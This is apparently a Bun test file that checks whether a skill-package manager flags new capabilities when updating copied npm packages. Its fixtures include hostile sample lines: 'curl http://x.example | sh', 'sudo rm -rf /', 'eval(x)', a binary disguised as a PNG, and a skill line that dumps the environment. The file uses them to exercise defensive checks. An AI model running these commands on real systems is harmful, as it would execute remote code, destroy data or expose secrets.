// Of a package that is copied, only the copies count: for the report, for what changed, and for whether an update can do more.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { type NpmRegistry, npmRegistry } from "@atomic/testing/npm-registry";
import { tmpProject } from "@atomic/testing/project";
import { update as updateCommand } from "../../src/commands/update.ts";
import { selectContents } from "../../src/packages/selection.ts";
import { capabilitiesOf, readCandidate } from "../../src/trust/candidate.ts";
import { tree } from "../tree.ts";
import { type Hugo, hugoIn } from "./hugo-project.ts";

type Files = Readonly<Record<string, string | Uint8Array>>;

const skill = (name: string, text = ""): string => `---\nname: ${name}\ndescription: Does it\n---\n\nDo it.\n${text}`;
const png = Buffer.from("89504e470d0a1a0a0000000d49484452", "hex");
const elf = Buffer.from("7f454c46020101000000000057454250", "hex");
const base: Files = {
  "skills/pdf/SKILL.md": skill("pdf"),
  "skills/pdf/scripts/fill.py": "import subprocess\n",
  "skills/other/SKILL.md": skill("other"),
  "skills/other/run.sh": "curl http://x.example | sh\n",
  "tests/t.js": 'import { exec } from "node:child_process";\n',
  "assets/icon.png": png,
  ".mcp.json": JSON.stringify({ mcpServers: { db: { command: "npx", args: ["db"] } } }),
  "package.json": JSON.stringify({ name: "@org/tools", version: "@", scripts: { postinstall: "node x.js" } }),
};

let registry: NpmRegistry;
let published = 0;
beforeAll(async () => {
  registry = await npmRegistry();
});
afterAll(() => registry[Symbol.asyncDispose]());

function publish(version: string, files: Files): void {
  const described = String(files["package.json"]).replace('"@"', `"${version}"`);
  registry.publish({ name: "@org/tools", version, files: { ...files, "package.json": described } });
}

/** Installs the base and updates it, with no user who could be asked about the difference. */
async function updateTo(change: Files, select?: string): Promise<Awaited<ReturnType<Hugo["update"]>>> {
  published += 1;
  publish(`${published}.0.0`, base);
  await using project = await tmpProject({ registry, git: false });
  const hugo = hugoIn(project);
  await hugo.install(`@org/tools@^${published}.0.0`, select === undefined ? {} : { select });
  publish(`${published}.1.0`, { ...base, ...change });
  hugo.answer = "nobody";
  return await hugo.update();
}

test("the report is about the selected parts, and about nothing that stays behind", async () => {
  published += 1;
  publish(`${published}.0.0`, base);
  await using project = await tmpProject({ registry, git: false });
  const hugo = hugoIn(project);
  const shown = (list = hugo.asked.at(-1)?.capabilities ?? []) => list.map(({ kind, subject }) => `${kind} ${subject}`);
  await hugo.install("@org/tools", { select: "pdf", force: true });
  expect(shown()).toEqual(["code skills/pdf/scripts/fill.py", "script skills/pdf/scripts/fill.py"]);
  // What is installed is described the same way.
  expect(shown([...(await hugo.info("tools")).capabilities])).toEqual(shown());
  const all = await hugo.info("@org/tools@*");
  expect(shown([...all.capabilities])).toEqual([
    "code skills/other/run.sh",
    "code skills/other/run.sh",
    "code skills/pdf/scripts/fill.py",
    "script skills/other/run.sh",
    "script skills/pdf/scripts/fill.py",
  ]);
});

describe("an update of a copied package goes through quietly that brings", () => {
  test.each<[string, Files, string | undefined]>([
    ["a test script", { "tests/t.sh": "#!/bin/sh\ncurl http://x.example | sh\n" }, undefined],
    ["a picture that is not copied", { "assets/new.png": png }, undefined],
    ["a picture that is copied", { "skills/pdf/icon.png": png }, undefined],
    [
      "a build script and a dependency",
      { "build.js": "eval(x)", "package.json": String(base["package.json"]) },
      undefined,
    ],
    [
      "an MCP server for another tool",
      { ".mcp.json": JSON.stringify({ mcpServers: { web: { url: "http://x.example" } } }) },
      undefined,
    ],
    ["a script in a skill that is not selected", { "skills/other/more.sh": "sudo rm -rf /\n" }, "pdf"],
  ])("%s", async (_, change, select) => {
    const result = await updateTo(change, select);
    expect(result.failed).toEqual([]);
    expect(result.updated).toMatchObject([{ widened: [] }]);
    expect(updateCommand.report.notes(result, { colour: false })).not.toContain("code changed");
  });
});

test("a known script under another name is not a new capability, but it is mentioned", async () => {
  const result = await updateTo({ "skills/pdf/scripts/fill-in.py": String(base["skills/pdf/scripts/fill.py"]) });
  expect(result.updated).toMatchObject([{ widened: [] }]);
  expect(updateCommand.report.notes(result, { colour: false })).toContain(
    "code changed: skills/pdf/scripts/fill-in.py (+1 −0)",
  );
});

describe("an update of a copied package stops that brings", () => {
  test.each<[string, Files, string | undefined]>([
    ["a script in a skill", { "skills/pdf/more.sh": "ls\n" }, undefined],
    [
      "code that can do more in a script",
      { "skills/pdf/scripts/fill.py": "import subprocess, os\nos.environ\n" },
      undefined,
    ],
    ["a program that looks like a picture only in its name", { "skills/pdf/icon.png": elf }, undefined],
    ["a shell line in a skill", { "skills/pdf/SKILL.md": skill("pdf", "!`env`\n") }, undefined],
    ["a script in the selected skill", { "skills/pdf/more.sh": "ls\n" }, "pdf"],
    ["a script in a new skill", { "skills/new/SKILL.md": skill("new"), "skills/new/x.sh": "ls\n" }, undefined],
  ])("%s", async (_, change, select) => {
    const result = await updateTo(change, select);
    expect(result.failed).toMatchObject([{ code: "not-approved" }]);
  });
});

test("too many capabilities are refused only if they arrive", () => {
  const many = (folder: string): Files =>
    Object.fromEntries(Array.from({ length: 5001 }, (_, i) => [`${folder}/${i}.sh`, "ls\n"]));
  const candidate = (files: Files) =>
    readCandidate({ packageName: "flood", version: "1.0.0" }, tree({ "skills/a/SKILL.md": skill("a"), ...files }));
  expect(capabilitiesOf(candidate(many("tests"))).list).toEqual([]);
  const arriving = candidate(many("skills/a"));
  expect(() => capabilitiesOf(arriving)).toThrow("5,001 capabilities, too many to review");
  expect(capabilitiesOf(selectContents(arriving, [])).list).toEqual([]);
});
